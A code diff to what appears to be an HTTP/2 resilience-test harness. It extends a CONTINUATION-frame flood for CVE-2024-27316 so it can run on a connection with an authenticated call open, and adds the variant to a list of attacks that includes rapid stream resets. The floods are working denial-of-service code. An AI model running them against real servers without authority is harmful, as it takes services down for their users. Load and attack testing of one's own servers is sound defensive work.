@@ -55,15 +55,25 @@ def resets(siege: Siege) -> None:
     flood(siege, (frame(1, 4, 2 * n + 1, head) + frame(3, 0, 2 * n + 1, b"\0\0\0\x08") for n in range(50_000)))
 
 
-def continuations(siege: Siege) -> None:
-    """Send headers that do not end (CVE-2024-27316)."""
+def continuations(siege: Siege, admitted: bytes = b"") -> None:
+    """Send headers that do not end (CVE-2024-27316).
+
+    Args:
+        admitted: frames of a call with a token, which stays open.
+    """
 
     def frames() -> Iterator[bytes]:
-        yield frame(1, 0, 1, head_of(CALL))
+        yield admitted + frame(1, 0, 3, head_of(CALL))
         for _ in range(5000):
-            yield frame(9, 0, 1, literal(b"x" * 100, b"y" * 100) * 50)
+            yield frame(9, 0, 3, literal(b"x" * 100, b"y" * 100) * 50)
 
     flood(siege, frames())
+
+
+def continuations_beside_a_call(siege: Siege) -> None:
+    """Send headers that do not end, on a connection with an open call."""
+    token = literal(b"authorization", f"token {siege.token}".encode())
+    continuations(siege, frame(1, 4, 1, head_of(CALL) + token))
 
 
 def slow_bodies(siege: Siege) -> None:
@@ -104,4 +114,5 @@ def attacks() -> dict[str, Callable[[Siege], None]]:
         "gRPC messages without a token": unread_messages,
         "resets": resets,
         "continuations": continuations,
+        "continuations beside a call": continuations_beside_a_call,
     }
